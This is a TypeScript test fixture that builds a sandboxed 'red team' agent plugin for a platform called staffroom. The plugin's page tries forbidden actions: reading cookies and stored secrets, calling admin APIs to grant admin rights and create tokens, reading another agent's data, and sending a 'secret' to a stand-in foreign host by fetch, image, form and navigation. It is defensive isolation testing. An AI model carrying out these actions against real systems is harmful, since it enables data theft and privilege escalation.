import { mkdir, symlink, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';

/** A forbidden action that the agent's page tries. */
interface Action {
  name: string;
  /** The body of an async function. It throws if the action is refused, and otherwise returns the result. */
  code: string;
  /** Matches the report of an attempt in a frame; null if only the browser's console shows the attempt. */
  told: RegExp | null;
  /** No frame prevents the action, as the documentation says. */
  isPossible?: true;
}

export const foreign = 'http://127.0.0.1:9';
/** Milliseconds after which an action without a result counts as refused. */
const refusalTimeoutMs = 1_500;

const got =
  'if (!answer.ok) throw new Error("answered " + answer.status); return "answered " + answer.status;';
const call = (address: string, init = '{}') =>
  `const answer = await fetch(${JSON.stringify(address)}, ${init}); ${got}`;
const frame = (inner: string) => `await new Promise((resolve, reject) => {
  setTimeout(() => reject(new Error('nothing came of it')), ${refusalTimeoutMs}); ${inner} });`;

/** The actions in order. The last actions may leave the page. */
export const actions: Action[] = [
  {
    name: 'read the surrounding page',
    code: `const { body } = window.parent === window ? document : window.parent.document;
      if (!body.querySelector('nav')) throw new Error('no shell'); return body.querySelector('nav').innerText;`,
    told: /parent/,
  },
  { name: 'read cookies', code: 'return document.cookie + " read";', told: /cookie/ },
  {
    name: 'read the data of the shell in localStorage',
    code: `const found = Object.keys(localStorage).filter((key) => /^(redteam-secret|staffroom\\.)/.test(key));
      if (localStorage.getItem('redteam-secret') === null) throw new Error('not there'); return found.join();`,
    told: null,
  },
  {
    name: 'open an IndexedDB database',
    code: `await new Promise((resolve, reject) => { const open = indexedDB.open('x');
      open.onsuccess = resolve; open.onerror = () => reject(open.error); }); return 'opened';`,
    told: /indexedDB/,
  },
  {
    name: 'open the cache storage of the browser',
    code: "await caches.open('x'); return 'opened';",
    told: /caches/,
  },
  {
    name: 'install a service worker',
    code: `const worker = await navigator.serviceWorker.register('/remotes/open-red/1.0.0/worker.js');
      await worker.unregister(); return 'installed';`,
    told: /serviceWorker/,
  },
  { name: "read the person's documents", code: call('/api/documents'), told: /GET \/api\/documents/ },
  {
    name: "read the person's notifications",
    code: call('/api/notifications'),
    told: /GET \/api\/notifications/,
  },
  {
    name: 'change the profile',
    code: call(
      '/api/profile',
      `{ method: 'PATCH', headers: { 'content-type': 'application/json' }, body: '{"name":"Red"}' }`,
    ),
    told: /PATCH \/api\/profile/,
  },
  {
    name: 'create an access token',
    code: call(
      '/api/access-tokens',
      `{ method: 'POST', headers: { 'content-type': 'application/json' }, body: '{"name":"red","days":null}' }`,
    ),
    told: /POST \/api\/access-tokens/,
  },
  {
    name: "read an administrator's list of accounts",
    code: call('/api/admin/people'),
    told: /GET \/api\/admin\/people/,
  },
  {
    name: 'make a member an administrator',
    code: call(
      '/api/admin/people/00000000-0000-4000-8000-000000000000',
      `{ method: 'PATCH', headers: { 'content-type': 'application/json' }, body: '{"role":"admin"}' }`,
    ),
    told: /PATCH \/api\/admin\/people/,
  },
  {
    name: 'allow the tools of an agent',
    code: call(
      '/api/admin/agent-tools/neighbour/allow',
      `{ method: 'POST', headers: { 'content-type': 'application/json' }, body: '{"digests":["x"]}' }`,
    ),
    told: /POST \/api\/admin\/agent-tools/,
  },
  {
    name: 'read the clipboard',
    code: 'return (await navigator.clipboard.readText()) + " read";',
    told: null,
  },
  {
    name: 'gather network addresses by WebRTC',
    code: `const connection = new RTCPeerConnection(); connection.createDataChannel('x');
      await connection.setLocalDescription(await connection.createOffer()); connection.close(); return 'gathered';`,
    told: null,
    isPossible: true,
  },
  {
    name: 'let the browser look up a foreign host',
    code: `const link = document.createElement('link'); link.rel = 'dns-prefetch'; link.href = 'https://secret.example.test';
      document.head.append(link); return 'asked';`,
    told: null,
    isPossible: true,
  },
  {
    name: "call another agent's routes",
    code: call('/api/agents/neighbour/secret'),
    told: /GET \/api\/agents\/neighbour/,
  },
  {
    name: "read another agent's chats",
    code: call('/api/ai-chat-sessions?agentId=neighbour'),
    told: /GET \/api\/ai-chat-sessions/,
  },
  {
    name: "send to another agent's socket",
    code:
      frame(`const stop = kit.socket.subscribe((heard) => {
        if (heard.id !== 'red') return; stop(); resolve(); });
      kit.socket.send({ type: 'neighbour:whisper', id: 'red', data: {} });`) + "return 'answered';",
    told: /neighbour:whisper/,
  },
  {
    name: 'open a separate WebSocket',
    code:
      frame(`const socket = new WebSocket(location.href.replace(/^http/, 'ws').replace(/\\/agent.*/, '/ws'));
      socket.onopen = resolve; socket.onerror = () => reject(new Error('refused'));`) + "return 'opened';",
    told: /connect-src ws:/,
  },
  {
    name: 'fetch from a foreign host',
    code: `await fetch('${foreign}/fetched?secret', { mode: 'no-cors' }); return 'sent';`,
    told: /GET http:\/\/127\.0\.0\.1:9/,
  },
  {
    name: 'load an image from a foreign host',
    code:
      frame(`const image = new Image(); image.onload = resolve; image.onerror = () => reject(new Error('refused'));
      image.src = '${foreign}/pixel.png?secret';`) + "return 'loaded';",
    told: /img-src http:\/\/127\.0\.0\.1:9/,
  },
  {
    name: 'cover the shell',
    code: `const cover = document.createElement('div'); cover.style.cssText = 'position:fixed;inset:0;z-index:9999999;background:red';
      document.body.append(cover); await new Promise((resolve) => setTimeout(resolve, 200)); return 'drawn';`,
    told: null,
  },
  {
    name: 'open a window',
    code: `const opened = window.open('${foreign}/window?secret'); if (!opened) throw new Error('no window'); opened.close(); return 'opened';`,
    told: /window\.open/,
  },
  {
    name: 'navigate the whole window to another site',
    code: `window.top.location.href = '${foreign}/top?secret'; await new Promise((resolve) => setTimeout(resolve, ${refusalTimeoutMs})); return 'left';`,
    told: /navigate/,
  },
  {
    name: 'submit a form to a foreign host',
    code: `const form = document.createElement('form'); form.action = '${foreign}/form?secret'; form.method = 'post'; document.body.append(form);
      await new Promise((resolve, reject) => {
        document.addEventListener('securitypolicyviolation', () => reject(new Error('refused')), { once: true });
        setTimeout(resolve, ${refusalTimeoutMs}); form.submit(); }); return 'sent';`,
    told: /(?:form-action|frame-src) http:\/\/127\.0\.0\.1:9/,
  },
  {
    name: 'navigate itself to another site, with data in the URL',
    code: `location.href = '${foreign}/left?secret'; await new Promise((resolve) => setTimeout(resolve, ${refusalTimeoutMs})); return 'left';`,
    told: /frame-src http:\/\/127\.0\.0\.1:9/,
  },
];

/** A client half as a script: its page tries the action in `?try=` and shows the result. */
const container = (slug: string) => `
  var staffroom_red_team_${slug.replaceAll('-', '_')} = (() => {
    let shared;
    const provided = async (name) => {
      const { lib, get } = Object.values(shared[name])[0];
      return lib ? lib() : (await get())();
    };
    const AsyncFunction = { ${actions.map(({ name, code }) => `${JSON.stringify(name)}: async (kit) => { ${code} }`).join(',\n')} };
    return {
      init(scope) { shared = scope; },
      async get() {
        const { defineAgent, useSearchParams, useSocket } = await provided('@staffroom/sdk/client');
        const { createElement, useEffect, useState } = await provided('react');
        const Page = () => {
          const [search] = useSearchParams();
          const socket = useSocket();
          const [said, say] = useState('');
          const wanted = search.get('try');
          useEffect(() => {
            if (!wanted) return;
            say('');
            AsyncFunction[wanted]({ socket }).then((came) => say(wanted + ': succeeded, ' + came), (error) => {
              say(wanted + ': refused, ' + error.message);
              // As it is where nobody catches it.
              if (error.name === 'SecurityError') setTimeout(() => { throw error; });
            });
          }, [wanted]);
          return createElement('p', { 'data-red': '' }, said);
        };
        const agent = defineAgent({ id: ${JSON.stringify(slug)}, name: 'Red team', description: 'Tries.' }, { page: async () => ({ default: Page }) });
        return () => ({ agent });
      },
    };
  })();`;

const sdk = fileURLToPath(new URL('../../sdk', import.meta.url));

/** Writes `plugins.json` with the agent in a frame, without a frame, and one other agent. @returns its path */
export async function redTeam(directory: string): Promise<string> {
  await mkdir(join(directory, 'node_modules/@staffroom'), { recursive: true });
  await symlink(sdk, join(directory, 'node_modules/@staffroom/sdk'));
  await symlink(join(sdk, 'node_modules/zod'), join(directory, 'node_modules/zod'));
  for (const slug of ['framed-red', 'open-red']) {
    const globalName = `staffroom_red_team_${slug.replaceAll('-', '_')}`;
    const entry = { name: 'red.js', path: '', type: 'global' };
    const metaData = {
      name: globalName,
      type: 'app',
      buildInfo: { buildVersion: '1.0.0' },
      remoteEntry: entry,
      types: {},
      globalName,
      publicPath: 'auto',
    };
    const manifest = { id: globalName, name: globalName, metaData, shared: [], remotes: [], exposes: [] };
    await agent(directory, slug, {
      'dist/client/mf-manifest.json': JSON.stringify(manifest),
      'dist/client/red.js': container(slug),
      'dist/client/worker.js': '',
    });
  }
  await agent(directory, 'neighbour', {
    'server.mjs': `import { defineManifest, endpoint, z } from '@staffroom/sdk';
      import { serverKit } from '@staffroom/sdk/server';
      const { route, socket, defineServerPlugin } = serverKit(
        defineManifest({ id: 'neighbour', name: 'Neighbour', description: 'Has secrets.' }));
      const secret = endpoint({ method: 'GET', path: '/secret', response: z.string() });
      export default defineServerPlugin({
        routes: [route(secret, async () => 'a secret')],
        sockets: [socket('whisper', z.object({}), async function* () { yield 'a secret'; })],
      });`,
  });
  const file = join(directory, 'plugins.json');
  const agents = {
    'framed-red': { from: './framed-red' },
    'open-red': { from: './open-red', frame: false },
    neighbour: { from: './neighbour' },
  };
  await writeFile(file, JSON.stringify({ agents }));
  return file;
}

async function agent(directory: string, slug: string, files: Record<string, string>): Promise<void> {
  const exports = {
    './manifest': './manifest.json',
    ...(files['server.mjs'] && { './server': './server.mjs' }),
  };
  const all = {
    'package.json': JSON.stringify({
      name: slug,
      version: '1.0.0',
      type: 'module',
      exports,
      peerDependencies: { '@staffroom/sdk': '*' },
    }),
    'manifest.json': JSON.stringify({ id: slug, name: `The ${slug}`, description: 'For a test.' }),
    ...files,
  };
  for (const [name, contents] of Object.entries(all)) {
    await mkdir(join(directory, slug, name, '..'), { recursive: true });
    await writeFile(join(directory, slug, name), contents);
  }
}
